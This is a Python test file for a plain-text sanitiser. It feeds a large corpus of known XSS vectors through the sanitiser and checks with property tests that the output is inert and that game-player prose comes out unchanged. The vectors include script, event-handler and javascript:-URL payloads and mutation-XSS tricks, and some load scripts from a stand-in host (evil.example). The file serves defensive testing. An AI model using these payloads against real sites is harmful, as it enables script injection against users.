"""Plain text fields: markup is told from prose and neutralized by the sanitiser, prose is kept.

An XSS corpus must come out inert, judged by an independent oracle (the
standard library's `html.parser`), and a prose corpus must come out byte for
byte as it went in; hypothesis checks both claims on drawn texts.
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tiers import examples_at_most

from plancontracts.runtime.core.plain_text import has_markup, neutralize


class _MarkupRecorder(HTMLParser):
    """Records everything but text that the standard library's HTML parser finds."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append(f"start tag {tag} {attrs}")

    def handle_endtag(self, tag: str) -> None:
        self.found.append(f"end tag {tag}")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append(f"start-end tag {tag} {attrs}")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"declaration {decl!r}")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"processing instruction {data!r}")

    def unknown_decl(self, data: str) -> None:
        self.found.append(f"unknown declaration {data!r}")


def markup_found_by_stdlib(text: str) -> list[str]:
    """What `html.parser` reads in `text` besides text; empty for inert text."""
    recorder = _MarkupRecorder()
    recorder.feed(text)
    recorder.close()
    return recorder.found


# An event handler attribute inside something that opens like a tag.
EVENT_ATTRIBUTE = re.compile(r"<[a-z/!?][^>]*\bon[a-z]+\s*=", re.IGNORECASE)


def assert_inert(output: str) -> None:
    assert markup_found_by_stdlib(output) == []
    assert not has_markup(output)
    assert neutralize(output) == output
    assert "<script" not in output.lower()
    assert EVENT_ATTRIBUTE.search(output) is None


# Well-known XSS vector classes, one line each: (readable id, vector).
XSS_VECTORS: list[tuple[str, str]] = [
    # Script tags in many casings and spacings.
    ("script", "<script>alert(1)</script>"),
    ("script-upper", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script-src", "<script src=//evil.example/x.js></script>"),
    ("script-spaces-before-close", "<script >alert(1)</script >"),
    ("script-newlines-in-tags", "<script\nsrc=x>alert(1)</script\n>"),
    ("script-tab-in-tag", "<script\ttype=text/javascript>alert(1)</script>"),
    ("script-slash-attribute", "<script/src=data:,alert(1)></script>"),
    ("script-unclosed", "<script>alert(1)"),
    ("script-double-open", "<<script>alert(1)//<</script>"),
    ("script-split-by-script", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    # Event handlers on media and interactive elements.
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-upper-quoted", '<IMG SRC="x" ONERROR="alert(\'xss\')">'),
    ("img-backtick-attributes", "<img src=`x` onerror=`alert(1)`>"),
    ("img-slash-separators", "<img/src=x/onerror=alert(1)>"),
    ("img-entity-in-handler", '<img src=x onerror="&#97;lert(1)">'),
    ("img-javascript-src", '<img src="javascript:alert(1)">'),
    ("img-unclosed-tag", "<img src=x onerror=alert(1)"),
    ("img-unclosed-attribute", '<img src="x onerror=alert(1)'),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-slash-onload", "<svg/onload=alert(1)>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("body-onload", "<body onload=alert(1)>"),
    ("video-source-onerror", '<video><source onerror="alert(1)"></video>'),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>scroll</marquee>"),
    ("input-autofocus-onfocus", "<input autofocus onfocus=alert(1)>"),
    ("isindex-onerror", "<isindex type=image src=1 onerror=alert(1)>"),
    ("end-tag-with-handler", "</a onmouseover=alert(1)>"),
    # javascript: and data: URLs.
    ("a-javascript", '<a href="javascript:alert(1)">click me</a>'),
    ("a-javascript-mixed-case", '<A HREF="JaVaScRiPt:alert(1)">x</A>'),
    ("a-javascript-tab-entity", '<a href="jav&#x09;ascript:alert(1)">click</a>'),
    (
        "a-javascript-all-entities",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    ),
    ("a-colon-entity", "<a href=javascript&colon;alert(1)>x</a>"),
    (
        "a-data-url",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    ),
    ("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("svg-a-xlink-href", '<svg><a xlink:href="javascript:alert(1)"><text>click</text></a></svg>'),
    ("object-data", '<object data="javascript:alert(1)"></object>'),
    ("embed-data-url", '<embed src="data:text/html,<script>alert(1)</script>">'),
    ("form-button-formaction", '<form><button formaction="javascript:alert(1)">Go</button></form>'),
    (
        "input-formaction",
        "<form id=f></form><input form=f type=submit formaction=javascript:alert(1)>",
    ),
    ("table-background", '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'),
    ("link-stylesheet", '<link rel=stylesheet href="javascript:alert(1)">'),
    # Page-level redirection.
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base-href", '<base href="https://evil.example/">'),
    # Styles.
    ("style-expression", '<div style="width: expression(alert(1))">x</div>'),
    ("style-import", "<style>@import 'javascript:alert(1)';</style>"),
    # Comments, conditional comments, CDATA, declarations.
    ("comment", "<!-- <script>alert(1)</script> -->"),
    ("comment-empty-trick", "<!--><script>alert(1)</script>-->"),
    ("conditional-comment", "<!--[if IE]><script>alert(1)</script><![endif]-->"),
    ("downlevel-revealed-conditional", "<![if !IE]><script>alert(1)</script><![endif]>"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("svg-cdata", '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>'),
    ("doctype", "<!DOCTYPE html><script>alert(1)</script>"),
    ("processing-instruction", '<?xml version="1.0"?><script>alert(1)</script>'),
    (
        "xml-namespace-import",
        '<html xmlns:xss><?import namespace=xss implementation="//evil.example/x.htc">'
        "<xss:xss>x</xss:xss>",
    ),
    # Mutation XSS through raw-text and escapable raw-text elements.
    ("noscript-mutation", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("textarea-contents", "<textarea><img src=x onerror=alert(1)></textarea>"),
    ("textarea-breakout", "<textarea></textarea><img src=x onerror=alert(1)>"),
    ("title-mutation", '<title><img title="</title><img src=x onerror=alert(1)>"></title>'),
    ("style-mutation", '<style><img src="</style><img src=x onerror=alert(1)//">'),
    ("xmp-contents", "<xmp><img src=x onerror=alert(1)></xmp>"),
    ("plaintext", "<plaintext><script>alert(1)</script>"),
    ("select-style", "<select><style></select><img src=x onerror=alert(1)></style>"),
    ("template-script", "<template><script>alert(1)</script></template>"),
    ("template-img", "<template><img src=x onerror=alert(1)></template>"),
    # Namespace confusion between HTML, SVG and MathML.
    (
        "math-mglyph-style",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    ),
    (
        "math-form-nesting",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style>"
        '<path id="</style><img onerror=alert(1) src>">',
    ),
    ("svg-p-style", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
    ("svg-style-img", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    # Character references spelling tags, mixed with real tags.
    ("entities-around-real-tag", "&lt;script&gt;<b>alert(1)</b>&lt;/script&gt;"),
    ("double-escaped-in-tag", "<i>&amp;lt;img src=x onerror=alert(1)&amp;gt;</i>"),
    ("numeric-references-in-tag", "<b>&#60;img src=x onerror=alert(1)&#62;</b>"),
    ("hex-references-in-tag", "<b>&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;</b>"),
    # Null bytes, newlines and form feeds inside tags.
    ("null-in-tag-name", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    ("null-after-open", "<\x00script>alert(1)</script>"),
    ("null-in-attribute-name", "<img src=x on\x00error=alert(1)>"),
    ("newlines-between-attributes", "<img\nsrc=x\nonerror=alert(1)>"),
    ("crlf-between-attributes", "<img\r\nsrc=x\r\nonerror=alert(1)>"),
    ("form-feed-between-attributes", "<img\x0csrc=x\x0conerror=alert(1)>"),
]

# A few vectors inside sentences a player might write around them.
EMBEDDED_VECTORS: list[tuple[str, str]] = [
    ("script-in-sentence", "Look closer <script>alert(1)</script> at the altar."),
    ("img-in-sentence", "The innkeeper says <img src=x onerror=alert(1)> and leaves."),
    ("split-script-in-sentence", "HP < 10? <scr<script>ipt>alert(1)</scr</script>ipt> Run!"),
    ("svg-in-sentence", "Rock & roll <svg/onload=alert(1)> all night."),
    ("a-javascript-in-sentence", 'Read the <a href="javascript:alert(1)">map</a>, then go.'),
    ("comment-in-sentence", "Open the door<!-- <script>alert(1)</script> --> quietly."),
    ("noscript-in-sentence", 'Wait. <noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("unclosed-img-at-end", "I <3 dragons <img src=x onerror=alert(1)"),
]

ALL_VECTORS = [pytest.param(vector, id=name) for name, vector in XSS_VECTORS + EMBEDDED_VECTORS]


def test_the_corpora_are_large_and_their_ids_unique() -> None:
    names = [name for name, _ in XSS_VECTORS + EMBEDDED_VECTORS]
    assert len(XSS_VECTORS) >= 40
    assert len(names) == len(set(names))
    assert len(PROSE) >= 30
    assert len({name for name, _ in PROSE}) == len(PROSE)


@pytest.mark.parametrize("vector", ALL_VECTORS)
def test_xss_vectors_are_markup(vector: str) -> None:
    assert has_markup(vector)


@pytest.mark.parametrize("vector", ALL_VECTORS)
def test_xss_vectors_come_out_inert(vector: str) -> None:
    assert_inert(neutralize(vector))


# Sentences a player or game master might write; none holds markup.
PROSE: list[tuple[str, str]] = [
    ("equals", "Tonight = danger"),
    ("equals-in-stats", "STR=14, DEX=12, CON=16"),
    ("less-than-spaced", "Drink a potion if HP < 10"),
    ("heart", "I <3 this tavern"),
    ("hearts-repeated", "<3 <3 <3"),
    ("less-and-greater", "a < b > c, so b is the odd one out"),
    ("less-than-digit", "Roll again if 5<6 on the second die"),
    ("less-or-equal", "Damage <= 5 is a graze; damage >= 20 is a kill"),
    ("left-arrow", "Go back <- the way you came"),
    ("not-equal-angle", "x <> y means they differ"),
    ("double-angles", "<< previous page | next page >>"),
    ("arrows", "Key -> door -> treasure => victory"),
    ("ampersand", "Rock & roll in the dungeon"),
    ("ampersand-company", "AT&T sponsored the tournament"),
    ("ampersand-food", "The inn serves fish & chips"),
    ("logical-and", "if (hp<3 && mana>2) cast heal"),
    ("amp-reference-text", "Write &amp; to get an ampersand in HTML"),
    ("lt-reference-text", "The sign &lt;3 is a heart"),
    ("amp-reference-with-less-than", "HP < 10 &amp; falling fast"),
    ("double-quotes", 'The sign reads "Beware of the dog"'),
    ("single-quotes-and-apostrophe", "It's the 'old' king's crown, isn't it?"),
    ("backslashes", "Save to C:\\games\\saves\\slot1 and type \\n for a newline"),
    ("emoji", "Victory! 🎉🐉⚔️"),
    ("emoji-zwj-family", "The family 👨\u200d👩\u200d👧\u200d👦 waves goodbye"),
    ("emoji-skin-tone", "Thumbs up 👍🏽 from the party"),
    ("flags", "Players from 🇯🇵 🇧🇷 🇫🇷 joined"),
    ("cjk", "勇者は宝箱を開けた。中には金貨が百枚あった。"),
    ("korean", "용사가 문을 열었다"),
    ("arabic", "مرحبا أيها المغامرون، الباب مغلق"),
    ("hebrew", "שלום, הרפתקנים! הדלת נעולה"),
    ("rtl-mixed-with-less-than", "HP < 10 עבור הלוחם"),
    ("accented-latin", "Café déjà vu: the naïve señor paid 5 €"),
    ("combining-marks", "Cafe\u0301 with a\u0300\u0316 cursed rune"),
    ("tabs-and-newlines", "Inventory:\n\tsword\n\tshield\n"),
    ("crlf", "Line one\r\nLine two\r\n"),
    ("lone-carriage-return-with-less-than", "Round 1 < round 2\rRound 3"),
    ("math-comparisons", "1 < 2 and 3 > 2, so 1 < 3; also 2 ≤ 3 ≥ 1"),
    ("markdown-bold", "**bold** move, _italic_ retreat, `code` word"),
    ("markdown-heading-and-list", "# Quest\n- find the key\n- open the door"),
    ("url", "See https://example.com/path?a=1&b=2#top for the map"),
    ("less-than-non-ascii-letter", "Quality tiers: x <é y (the accent tier)"),
    ("less-than-at-end", "The mana must stay <"),
    ("end-tag-opener-at-end", "A stray slash after a sign: </"),
    ("greater-than-only", "> quoted reply from the game master"),
]

PROSE_PARAMS = [pytest.param(text, id=name) for name, text in PROSE]


@pytest.mark.parametrize("text", PROSE_PARAMS)
def test_prose_holds_no_markup(text: str) -> None:
    assert not has_markup(text)
    assert markup_found_by_stdlib(text) == []


@pytest.mark.parametrize("text", PROSE_PARAMS)
def test_prose_comes_out_byte_identical(text: str) -> None:
    output = neutralize(text)
    assert output == text
    assert output.encode() == text.encode()


# Exact examples of the behaviour.


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param("<b>Examine</b>", "Examine", id="bold"),
        pytest.param("<button onclick=\"alert('x')\">Touch</button>", "Touch", id="button"),
        pytest.param(
            "Look closer <script>console.log('x')</script>", "Look closer ", id="script-dropped"
        ),
        pytest.param("a<b", "a", id="letter-after-less-than"),
        pytest.param("<i>fish &amp; chips</i>", "fish & chips", id="references-read"),
        pytest.param("<b>x</b>\r\nnext", "x\nnext", id="newlines-as-html"),
        pytest.param("<<script>alert(1)//<</script>", "<", id="double-open"),
        pytest.param(
            "<scr<script>ipt>alert(1)</scr</script>ipt>", "ipt>alert(1)ipt>", id="split-script"
        ),
        pytest.param("<b>&lt;script&gt;alert(1)&lt;/script&gt;</b>", "", id="spelled-tag"),
    ],
)
def test_neutralize_examples(text: str, expected: str) -> None:
    assert neutralize(text) == expected


def test_an_equals_sign_is_prose() -> None:
    # An upstream regex sanitiser turned this into "Tdanger".
    assert not has_markup("Tonight = danger")
    assert neutralize("Tonight = danger") == "Tonight = danger"


def test_a_less_than_before_a_letter_is_markup() -> None:
    # As in HTML: a browser shows `a` for `a<b`.
    assert has_markup("a<b")


def nested(depth: int, core: str) -> str:
    """`core` under `depth` levels of bold, each level escaping the one inside it."""
    text = core
    for _ in range(depth):
        text = "<b>" + html.escape(text, quote=False)
    return text


def test_markup_nested_through_references_is_unwrapped() -> None:
    assert neutralize(nested(15, "Rock & roll, HP < 10")) == "Rock & roll, HP < 10"


def test_markup_nested_past_the_round_limit_is_escaped() -> None:
    output = neutralize(nested(40, "x"))
    assert_inert(output)
    assert "<" not in output


def test_markup_nested_exactly_to_the_round_limit_is_unwrapped() -> None:
    assert neutralize(nested(16, "Rock & roll, HP < 10")) == "Rock & roll, HP < 10"


@pytest.mark.parametrize("reference", ["&#1;", "&#13;", "&#xFFFE;"])
def test_references_the_sanitiser_reads_differently_are_not_markup(reference: str) -> None:
    text = f"HP < 10 {reference}"
    assert markup_found_by_stdlib(text) == []
    assert not has_markup(text)
    assert neutralize(text) == text


def test_a_lone_surrogate_next_to_markup_does_not_raise() -> None:
    # No HTML parser takes a lone surrogate (json.loads lets them through): it
    # is read as U+FFFD, as HTML parsers read it, once the text must change.
    assert has_markup("\ud800 <b>x</b>")
    assert neutralize("\ud800 <b>x</b>") == "\ufffd x"
    assert neutralize("\ud800 <3") == "\ud800 <3"


# Properties.

TAG_LIKE_FRAGMENTS = [
    "<b>",
    "</i>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<!--",
    "-->",
    "&lt;",
    "&gt;",
    "&amp;",
    "&#60;",
    "&#x3c;",
    "<script>",
    "</script>",
    "<style>",
    "<textarea>",
    "<noscript>",
    "<plaintext>",
    "<title>",
    "<svg>",
    "<math>",
    "<![CDATA[",
    "]]>",
    "<!",
    "<?",
    "</",
    "<",
    ">",
    "/",
    "=",
    '"',
    "'",
    "`",
    " ",
    "\x00",
    "\r",
    "\n",
]

texts_with_tag_like_fragments = st.lists(
    st.one_of(st.text(max_size=8), st.sampled_from(TAG_LIKE_FRAGMENTS)), max_size=24
).map("".join)


@settings(max_examples=examples_at_most(300), deadline=None)
@given(st.text(alphabet=st.characters(exclude_characters="<")))
def test_text_without_less_than_is_kept_as_is(text: str) -> None:
    assert not has_markup(text)
    assert neutralize(text) == text


@settings(max_examples=examples_at_most(300), deadline=None)
@given(st.one_of(st.text(), texts_with_tag_like_fragments))
def test_neutralized_text_holds_no_markup_and_is_a_fixed_point(text: str) -> None:
    assert_inert(neutralize(text))


# `<` followed by a space, a digit, `=` or `-` opens nothing, whatever surrounds it:
# character references, NUL and anything else around it included.
prose_with_less_than = st.lists(
    st.one_of(
        st.text(alphabet=st.characters(codec="utf-8", exclude_characters="<")),
        st.sampled_from(["< ", "<3", "<0", " < 10", "5<6", "<=", "<-", "&", "&amp;"]),
    ),
    max_size=12,
).map("".join)


@settings(max_examples=examples_at_most(300), deadline=None)
@given(prose_with_less_than)
def test_a_less_than_that_opens_nothing_keeps_text_as_is(text: str) -> None:
    assert not has_markup(text)
    assert neutralize(text) == text
